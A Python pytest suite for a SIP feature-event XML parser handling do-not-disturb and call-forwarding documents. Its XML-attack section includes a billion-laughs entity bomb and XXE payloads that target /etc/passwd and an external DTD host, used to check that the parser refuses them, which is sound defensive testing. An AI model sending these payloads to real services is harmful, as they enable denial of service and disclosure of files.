"""as-feature-event bodies: the protocol file's documents, every known defect by rule id,
XML attacks, encodings, full-state bodies, and fuzzing of the parser's one error type."""
from __future__ import annotations

import builtins
import contextlib
import re
import time
import urllib.request
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import tostring

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fsync_model.bodies import feature_event as afe
from fsync_model.bodies.feature_event import (
    ECMA_323_ED3,
    ECMA_323_ED3_NO_HYPHEN,
    BodyError,
    DoNotDisturbEvent,
    FeatureDocument,
    FeatureEvent,
    ForwardingEvent,
    ForwardingType,
    SetDoNotDisturb,
    SetForwarding,
    build,
    build_concatenated,
    build_full_state,
    parse,
    parse_notify_body,
)
from fsync_model.sip.errors import SipParseError

# The four documents of feature-sync-protocol.md section 1, verbatim.
SET_DND = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<SetDoNotDisturb xmlns="http://www.ecma-international.org/standards/ecma-323/csta/ed3">
  <device>1001</device>
  <doNotDisturbOn>true</doNotDisturbOn>
</SetDoNotDisturb>"""
SET_FORWARDING = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<SetForwarding xmlns="http://www.ecma-international.org/standards/ecma-323/csta/ed3">
  <device>1001</device>
  <activateForward>true</activateForward>
  <forwardingType>forwardImmediate</forwardingType>
  <forwardDN>2000</forwardDN>
  <ringCount></ringCount>
</SetForwarding>"""
DND_EVENT = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<DoNotDisturbEvent xmlns="http://www.ecma-international.org/standards/ecma-323/csta/ed3">
  <device>1001</device>
  <doNotDisturbOn>true</doNotDisturbOn>
</DoNotDisturbEvent>"""
FORWARDING_EVENT = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<ForwardingEvent xmlns="http://www.ecma-international.org/standards/ecma-323/csta/ed3">
  <device>1001</device>
  <forwardingType>forwardNoAns</forwardingType>
  <forwardStatus>true</forwardStatus>
  <forwardTo>3000</forwardTo>
  <ringCount>4</ringCount>
</ForwardingEvent>"""

EXAMPLES: list[tuple[bytes, FeatureDocument]] = [
    (SET_DND, SetDoNotDisturb("1001", True)),
    (SET_FORWARDING, SetForwarding("1001", True, ForwardingType.IMMEDIATE, "2000", None)),
    (DND_EVENT, DoNotDisturbEvent("1001", True)),
    (FORWARDING_EVENT, ForwardingEvent("1001", ForwardingType.NO_ANSWER, True, "3000", 4)),
]

PROTOCOL_FILE = Path("/work/shared/protocol/feature-sync-protocol.md")


@pytest.mark.parametrize(("wire", "document"), EXAMPLES)
def test_protocol_examples_build_exactly_and_parse_cleanly(
    wire: bytes, document: FeatureDocument
) -> None:
    assert build(document) == wire
    result = parse(wire)
    assert result.document == document
    assert result.findings == ()
    assert result.namespace == ECMA_323_ED3
    assert result.declared_encoding == "ISO-8859-1"


def test_embedded_examples_match_the_protocol_file() -> None:
    if not PROTOCOL_FILE.exists():
        pytest.skip(f"{PROTOCOL_FILE} not present")
    blocks = re.findall(r"```xml\n(.*?)\n```", PROTOCOL_FILE.read_text(encoding="utf-8"), re.S)
    assert [block.encode("latin-1") for block in blocks] == [wire for wire, _ in EXAMPLES]


def test_request_to_event_mapping() -> None:
    assert SetDoNotDisturb("1001", False).to_event() == DoNotDisturbEvent("1001", False)
    assert EXAMPLES[1][1].to_event() == ForwardingEvent(  # type: ignore[union-attr]
        "1001", ForwardingType.IMMEDIATE, True, "2000", None
    )
    off = SetForwarding("1001", False, ForwardingType.NO_ANSWER, "", 5).to_event()
    assert off == ForwardingEvent("1001", ForwardingType.NO_ANSWER, False, None, 5)
    busy = SetForwarding("1001", True, ForwardingType.BUSY, "2000", 5).to_event()
    assert busy.ring_count is None


def test_forwarding_types_map_to_feature_names() -> None:
    assert [member.feature for member in ForwardingType] == ["cfa", "cfb", "cfna"]
    assert ForwardingType.from_feature("cfna") is ForwardingType.NO_ANSWER
    assert [doc.feature for _, doc in EXAMPLES] == ["dnd", "cfa", "dnd", "cfna"]
    with pytest.raises(ValueError):
        ForwardingType.from_feature("dnd")


# --------------------------------------------------------------------------- defects

CFNA_ON = ForwardingEvent("1001", ForwardingType.NO_ANSWER, True, "3000", 4)
CFA_OFF = ForwardingEvent("1001", ForwardingType.IMMEDIATE, False, None, None)


def _concatenated() -> bytes:
    return build_concatenated([DoNotDisturbEvent("1001", True), CFNA_ON])


# (name, body, rule, severity, strict rejects, lenient document or None when always refused)
DEFECTS: list[tuple[str, bytes, str, str, bool, FeatureDocument | None]] = [
    ("namespace omitted", build(SetDoNotDisturb("1001", True), namespace=None),
     afe.AFE_NS_MISSING, "error", True, SetDoNotDisturb("1001", True)),
    ("wrong namespace", build(DoNotDisturbEvent("1001", False), namespace="urn:x"),
     afe.AFE_NS_WRONG, "error", True, DoNotDisturbEvent("1001", False)),
    ("True literal", build(SetDoNotDisturb("1001", True), true_literal="True"),
     afe.AFE_BOOL_LITERAL, "error", True, SetDoNotDisturb("1001", True)),
    ("1 literal", build(CFNA_ON, true_literal="1"),
     afe.AFE_BOOL_LITERAL, "error", True, CFNA_ON),
    ("FALSE literal", build(SetDoNotDisturb("1001", False), false_literal="FALSE"),
     afe.AFE_BOOL_LITERAL, "error", True, SetDoNotDisturb("1001", False)),
    ("yes is no boolean", build(SetDoNotDisturb("1001", True), true_literal="yes"),
     afe.AFE_BOOL_INVALID, "error", True, None),
    ("empty device", build(SetDoNotDisturb("", True)),
     afe.AFE_DEVICE_EMPTY, "error", True, SetDoNotDisturb("", True)),
    ("missing device", build(DoNotDisturbEvent("1001", True), override={"device": None}),
     afe.AFE_DEVICE_EMPTY, "error", True, DoNotDisturbEvent("", True)),
    ("unknown forwardingType", build(CFNA_ON, override={"forwardingType": "forwardAlways"}),
     afe.AFE_FWDTYPE_UNKNOWN, "error", True, None),
    ("ringCount not a number", build(CFNA_ON, override={"ringCount": "four"}),
     afe.AFE_RINGCOUNT_INVALID, "error", True, None),
    ("ringCount negative", build(CFNA_ON, override={"ringCount": "-1"}),
     afe.AFE_RINGCOUNT_INVALID, "error", True, None),
    ("ringCount zero", build(CFNA_ON, override={"ringCount": "0"}),
     afe.AFE_RINGCOUNT_RANGE, "error", True, None),
    ("ringCount 101", build(CFNA_ON, override={"ringCount": "101"}),
     afe.AFE_RINGCOUNT_RANGE, "error", True, None),
    ("ringCount 5000 digits", build(CFNA_ON, override={"ringCount": "0" * 4999 + "7" * 5000}),
     afe.AFE_RINGCOUNT_RANGE, "error", True, None),
    ("ringCount on a busy forward", build(
        ForwardingEvent("1001", ForwardingType.BUSY, True, "2000"), override={"ringCount": "x"}),
     afe.AFE_RINGCOUNT_IGNORED, "info", False,
     ForwardingEvent("1001", ForwardingType.BUSY, True, "2000", None)),
    ("ringCount when deactivating",
     build(SetForwarding("1001", False, ForwardingType.NO_ANSWER, "", 3)),
     afe.AFE_RINGCOUNT_IGNORED, "info", False,
     SetForwarding("1001", False, ForwardingType.NO_ANSWER, "", None)),
    ("ringCount omitted (active)", build(CFNA_ON, omit_ring_count=True),
     afe.AFE_RINGCOUNT_MISSING, "error", False,
     ForwardingEvent("1001", ForwardingType.NO_ANSWER, True, "3000", None)),
    ("ringCount omitted (inactive)",
     build(ForwardingEvent("1001", ForwardingType.NO_ANSWER, False, None), omit_ring_count=True),
     afe.AFE_RINGCOUNT_MISSING, "warning", False,
     ForwardingEvent("1001", ForwardingType.NO_ANSWER, False, None, None)),
    ("forwardTo omitted when off", build(CFA_OFF, omit_forward_to_when_off=True),
     afe.AFE_FORWARDTO_MISSING, "warning", False, CFA_OFF),
    ("active forward without number",
     build(ForwardingEvent("1001", ForwardingType.IMMEDIATE, True, None)),
     afe.AFE_FORWARDTO_EMPTY, "error", True,
     ForwardingEvent("1001", ForwardingType.IMMEDIATE, True, None)),
    ("activation without forwardDN",
     build(SetForwarding("1001", True, ForwardingType.BUSY, "")),
     afe.AFE_FORWARDDN_EMPTY, "warning", False,
     SetForwarding("1001", True, ForwardingType.BUSY, "")),
    ("concatenated documents", _concatenated(),
     afe.AFE_CONCATENATED, "error", True, DoNotDisturbEvent("1001", True)),
    ("unknown root", SET_DND.replace(b"SetDoNotDisturb", b"SetDND"),
     afe.AFE_ROOT_UNKNOWN, "error", True, None),
    ("missing doNotDisturbOn", build(DoNotDisturbEvent("1001", True),
                                     override={"doNotDisturbOn": None}),
     afe.AFE_ELEMENT_MISSING, "error", True, None),
    ("missing forwardStatus", build(CFNA_ON, override={"forwardStatus": None}),
     afe.AFE_ELEMENT_MISSING, "error", True, None),
    ("duplicate element", SET_DND.replace(b"<device>1001</device>",
                                          b"<device>1001</device><device>1002</device>"),
     afe.AFE_ELEMENT_DUPLICATE, "error", True, SetDoNotDisturb("1001", True)),
    ("unknown element", build(DoNotDisturbEvent("1001", True), override={"note": "hi"}),
     afe.AFE_ELEMENT_UNKNOWN, "info", False, DoNotDisturbEvent("1001", True)),
    ("namespace without hyphen", build(CFNA_ON, namespace=ECMA_323_ED3_NO_HYPHEN),
     afe.AFE_NS_VARIANT, "info", False, CFNA_ON),
]


@pytest.mark.parametrize(
    ("body", "rule", "severity", "strict_rejects", "lenient"),
    [pytest.param(*case[1:], id=case[0]) for case in DEFECTS],
)
def test_each_defect_produces_its_rule(
    body: bytes, rule: str, severity: str, strict_rejects: bool,
    lenient: FeatureDocument | None,
) -> None:
    if lenient is None:
        for strict in (True, False):
            with pytest.raises(BodyError) as caught:
                parse(body, strict=strict)
            assert caught.value.status == 400
            assert caught.value.rules[-1] == rule
        return
    result = parse(body, strict=False)
    assert result.document == lenient
    matching = [finding for finding in result.findings if finding.rule == rule]
    assert matching and matching[0].severity == severity
    if strict_rejects:
        with pytest.raises(BodyError) as caught:
            parse(body, strict=True)
        assert caught.value.status == 400
        assert rule in caught.value.rules
        assert caught.value.reason.startswith("Bad as-feature-event body: ")
    else:
        assert parse(body, strict=True).document == lenient


def test_ring_count_range_is_a_setting() -> None:
    body = build(CFNA_ON, override={"ringCount": "11"})
    assert parse(body).document == ForwardingEvent(
        "1001", ForwardingType.NO_ANSWER, True, "3000", 11
    )
    with pytest.raises(BodyError) as caught:
        parse(body, ring_count_range=(1, 10))
    assert caught.value.rules == [afe.AFE_RINGCOUNT_RANGE]


def test_no_hyphen_namespace_can_be_refused_by_profile() -> None:
    body = build(CFNA_ON, namespace=ECMA_323_ED3_NO_HYPHEN)
    with pytest.raises(BodyError) as caught:
        parse(body, accepted_namespaces=(ECMA_323_ED3,))
    assert caught.value.rules == [afe.AFE_NS_WRONG]


def test_lenient_concatenation_returns_the_first_document_like_phones() -> None:
    body = _concatenated() + b"\n" + build(SetDoNotDisturb("9", False))
    result = parse(body, strict=False)
    assert result.document == DoNotDisturbEvent("1001", True)
    (finding,) = result.findings
    assert finding.rule == afe.AFE_CONCATENATED
    assert finding.evidence is not None and finding.evidence.startswith("<?xml")


def test_body_error_is_a_sip_parse_error() -> None:
    with pytest.raises(SipParseError):
        parse(b"not xml")


# --------------------------------------------------------------------------- XML attacks

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<SetDoNotDisturb xmlns="http://www.ecma-international.org/standards/ecma-323/csta/ed3">
  <device>&lol9;</device>
  <doNotDisturbOn>true</doNotDisturbOn>
</SetDoNotDisturb>"""


def _external_entity(path: Path) -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE SetDoNotDisturb [\n'
        b'  <!ENTITY xxe SYSTEM "file://' + str(path).encode() + b'">\n]>\n'
        b"<SetDoNotDisturb><device>&xxe;</device>"
        b"<doNotDisturbOn>true</doNotDisturbOn></SetDoNotDisturb>"
    )


@pytest.fixture
def no_file_or_network_access(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make any attempt by the parser to read a file or URL fail the test loudly."""

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError(f"the XML parser tried to fetch {args!r}")

    monkeypatch.setattr(builtins, "open", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


@pytest.mark.usefixtures("no_file_or_network_access")
def test_billion_laughs_is_refused_before_expansion() -> None:
    started = time.perf_counter()
    with pytest.raises(BodyError) as caught:
        parse(BILLION_LAUGHS, strict=False)
    assert time.perf_counter() - started < 1.0
    assert caught.value.status == 400
    assert caught.value.rules == [afe.XML_DTD_REFUSED]


def test_external_entity_is_refused_without_reading_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = _external_entity(secret)
    etc_passwd = _external_entity(Path("/etc/passwd"))

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError(f"the XML parser tried to fetch {args!r}")

    monkeypatch.setattr(builtins, "open", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    for attack in (body, etc_passwd):
        with pytest.raises(BodyError) as caught:
            parse(attack, strict=False, xml_error_status=415)
        assert caught.value.status == 415
        assert caught.value.rules == [afe.XML_DTD_REFUSED]
        shown = str(caught.value) + "".join(str(finding) for finding in caught.value.findings)
        assert "TOP-SECRET" not in shown and "root:" not in shown


@pytest.mark.usefixtures("no_file_or_network_access")
@pytest.mark.parametrize(
    "attack",
    [
        b'<!DOCTYPE SetDoNotDisturb SYSTEM "file:///etc/passwd"><SetDoNotDisturb/>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.1/x.dtd"> %p;]><x/>',
        b"<!DOCTYPE x><x/>",
    ],
)
def test_every_dtd_is_refused(attack: bytes) -> None:
    with pytest.raises(BodyError) as caught:
        parse(attack)
    assert caught.value.rules == [afe.XML_DTD_REFUSED]


def test_undeclared_entity_is_malformed_xml() -> None:
    with pytest.raises(BodyError) as caught:
        parse(SET_DND.replace(b"1001", b"&xxe;"))
    assert caught.value.rules == [afe.XML_MALFORMED]


def test_size_limit_gives_413() -> None:
    padded = SET_DND.replace(b"<device>", b"<!--" + b"x" * (64 * 1024) + b"--><device>")
    with pytest.raises(BodyError) as caught:
        parse(padded)
    assert caught.value.status == 413
    assert caught.value.rules == [afe.BODY_TOO_LARGE]
    assert parse(padded, max_size=128 * 1024).document == SetDoNotDisturb("1001", True)


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (b"", afe.XML_MALFORMED),
        (b"<SetDoNotDisturb>", afe.XML_MALFORMED),
        (SET_DND + b" trailing text", afe.XML_MALFORMED),
        (SET_DND.replace(b"ISO-8859-1", b"no-such-charset"), afe.XML_ENCODING),
        (SET_DND.replace(b"ISO-8859-1", b"Shift_JIS"), afe.XML_ENCODING),
    ],
)
def test_unusable_xml_uses_the_configured_status(body: bytes, rule: str) -> None:
    for status in (400, 415):
        with pytest.raises(BodyError) as caught:
            parse(body, xml_error_status=status)
        assert (caught.value.status, caught.value.rules) == (status, [rule])


def test_deep_nesting_does_not_recurse() -> None:
    depth = 20_000
    body = (b"<SetDoNotDisturb xmlns='" + ECMA_323_ED3.encode() + b"'><device>"
            + b"<a>" * depth + b"1001" + b"</a>" * depth
            + b"</device><doNotDisturbOn>true</doNotDisturbOn></SetDoNotDisturb>")
    assert parse(body, max_size=len(body)).document == SetDoNotDisturb("1001", True)


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-8", "iso-8859-1", "utf-8"])
def test_declared_encodings(encoding: str) -> None:
    document = ForwardingEvent("Müller", ForwardingType.BUSY, True, "☎ 2000")
    body = build(document, encoding=encoding)
    if encoding.upper() == "ISO-8859-1":
        assert b"M\xfcller" in body and b"&#9742;" in body
    else:
        assert "Müller".encode() in body
    result = parse(body)
    assert result.document == document
    assert result.declared_encoding == encoding


def test_declared_encoding_after_a_byte_order_mark() -> None:
    body = b"\xef\xbb\xbf" + build(DoNotDisturbEvent("1001", True), encoding="UTF-8")
    assert parse(body).declared_encoding == "UTF-8"


def test_no_declaration_means_utf8_and_markup_is_escaped() -> None:
    document = SetForwarding("a<b&c", True, ForwardingType.IMMEDIATE, '"2000"')
    body = build(document, xml_declaration=False, encoding="utf-8")
    assert body.startswith(b"<SetForwarding")
    result = parse(body)
    assert result.document == document
    assert result.declared_encoding is None


# --------------------------------------------------------------------------- full state


FULL_STATE: list[FeatureEvent] = [
    DoNotDisturbEvent("1001", False),
    ForwardingEvent("1001", ForwardingType.NO_ANSWER, True, "3000", 4),
    ForwardingEvent("1001", ForwardingType.IMMEDIATE, False, None, None),
    ForwardingEvent("1001", ForwardingType.BUSY, True, "2000", None),
]


def test_full_state_multipart_in_freeswitch_order_round_trips() -> None:
    content_type, body = build_full_state(FULL_STATE, "fsync-full-state")
    assert content_type == "multipart/mixed;boundary=fsync-full-state"
    results = parse_notify_body(content_type, body)
    assert [result.feature for result in results] == ["cfa", "cfb", "cfna", "dnd"]
    assert sorted(map(repr, (result.document for result in results))) == sorted(
        map(repr, FULL_STATE)
    )


def test_notify_body_single_document_and_refusals() -> None:
    (result,) = parse_notify_body("application/x-as-feature-event+xml", DND_EVENT)
    assert result.document == DoNotDisturbEvent("1001", True)
    with pytest.raises(BodyError) as caught:
        parse_notify_body("application/xml", DND_EVENT)
    assert (caught.value.status, caught.value.rules) == (415, [afe.BODY_CONTENT_TYPE])
    with pytest.raises(BodyError) as caught:
        parse_notify_body("multipart/mixed;boundary=b", b"--b\r\n\r\nx\r\n")
    assert caught.value.rules == [afe.BODY_MULTIPART]
    with pytest.raises(BodyError) as caught:
        parse_notify_body("multipart/mixed;boundary=b", b"--b\r\n\r\nx\r\n--b--")
    assert (caught.value.status, caught.value.rules) == (415, [afe.BODY_CONTENT_TYPE])


def test_defects_inside_a_part_surface_per_part() -> None:
    content_type, body = build_full_state(FULL_STATE[:2], "b", true_literal="True")
    with pytest.raises(BodyError):
        parse_notify_body(content_type, body)
    results = parse_notify_body(content_type, body, strict=False)
    assert [afe.AFE_BOOL_LITERAL in result.rules for result in results] == [True, False]


# --------------------------------------------------------------------------- properties

_devices = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), max_size=12
)
_numbers = st.one_of(st.none(), st.from_regex(r"[0-9*#+]{1,12}", fullmatch=True))
_types = st.sampled_from(list(ForwardingType))


@st.composite
def _documents(draw: st.DrawFn) -> FeatureDocument:
    device = draw(_devices)
    kind = draw(st.sampled_from(["set-dnd", "dnd", "set-fwd", "fwd"]))
    if kind == "set-dnd":
        return SetDoNotDisturb(device, draw(st.booleans()))
    if kind == "dnd":
        return DoNotDisturbEvent(device, draw(st.booleans()))
    forwarding_type = draw(_types)
    on = draw(st.booleans())
    ring = draw(st.integers(1, 100)) if forwarding_type is ForwardingType.NO_ANSWER else None
    if kind == "set-fwd":
        return SetForwarding(device, on, forwarding_type, draw(_numbers) or "",
                             ring if on else None)
    return ForwardingEvent(device, forwarding_type, on, draw(_numbers), ring)


@given(_documents(), st.sampled_from(["ISO-8859-1", "UTF-8"]))
def test_build_then_lenient_parse_round_trips(document: FeatureDocument, encoding: str) -> None:
    assert parse(build(document, encoding=encoding), strict=False).document == document


@given(st.binary(max_size=400))
def test_arbitrary_bytes_only_raise_body_error(body: bytes) -> None:
    for strict in (True, False):
        try:
            parse(body, strict=strict)
        except BodyError as error:
            assert error.status in (400, 413)
            assert error.findings


@given(st.sampled_from([wire for wire, _ in EXAMPLES]), st.data())
def test_mutated_examples_only_raise_body_error(wire: bytes, data: st.DataObject) -> None:
    mutated = _mutate(wire, data, b"<>/&;\"'=x1 \x00\xff", at_least=1)
    with contextlib.suppress(BodyError):
        parse(mutated, strict=data.draw(st.booleans()))


def _mutate(wire: bytes, data: st.DataObject, alphabet: bytes, *, at_least: int) -> bytes:
    """``wire`` with ``at_least``..6 bytes replaced, deleted or inserted from ``alphabet``
    (and 128)."""
    mutated = bytearray(wire)
    for _ in range(data.draw(st.integers(at_least, 6))):
        position = data.draw(st.integers(0, len(mutated) - 1))
        action = data.draw(st.sampled_from(["replace", "delete", "insert"]))
        byte = data.draw(st.sampled_from([*list(alphabet), 128]))
        if action == "replace":
            mutated[position] = byte
        elif action == "delete":
            del mutated[position]
        else:
            mutated.insert(position, byte)
    return bytes(mutated)


@given(st.text(max_size=30), st.binary(max_size=200))
def test_notify_body_only_raises_body_error(content_type: str, body: bytes) -> None:
    with contextlib.suppress(BodyError):
        parse_notify_body(content_type, body)


def _hardened_only(body: bytes) -> Any:
    """load_xml as it was before the plain-body fast path: the hardened parser for all."""
    plain = afe._plain
    afe._plain = lambda body, declared: False  # type: ignore[assignment]
    try:
        return afe.load_xml(body)
    finally:
        afe._plain = plain


def _outcome(load: Any, body: bytes) -> tuple[Any, ...]:
    try:
        document = load(body)
    except BodyError as error:
        return ("error", error.status, error.reason,
                [(f.rule, f.severity, f.message, f.evidence) for f in error.findings])
    return ("ok", tostring(document.root), document.declared_encoding,
            document.trailing_offset, document.trailing)


@given(st.sampled_from([wire for wire, _ in EXAMPLES]), st.data())
def test_plain_bodies_parse_as_the_hardened_parser_does(wire: bytes,
                                                        data: st.DataObject) -> None:
    """The C parser's fast path (no ``<!``, no NUL, ASCII-compatible encoding) gives the
    tree, or the error, the hardened parser gives: on the examples and mutations of them
    (entities, stray markup, junk after the root, encodings)."""
    body = _mutate(wire, data, b"<>/&;\"'=x1 ?#\xff\xe9", at_least=0)
    if data.draw(st.booleans()):
        body = body.replace(b"ISO-8859-1", data.draw(st.sampled_from(
            [b"UTF-8", b"us-ascii", b"latin1", b"windows-1252", b"bogus"])))
    assert _outcome(afe.load_xml, body) == _outcome(_hardened_only, body)


def test_plain_fast_path_is_taken_only_without_markup_declarations() -> None:
    assert afe._plain(SET_DND, "ISO-8859-1")
    assert not afe._plain(b'<?xml version="1.0"?><!DOCTYPE a []><a/>', None)
    assert not afe._plain(b"<a><!-- c --></a>", None)
    assert not afe._plain("<a/>".encode("utf-16"), None)
    assert not afe._plain(b'<?xml version="1.0" encoding="cp500"?><a/>', "cp500")
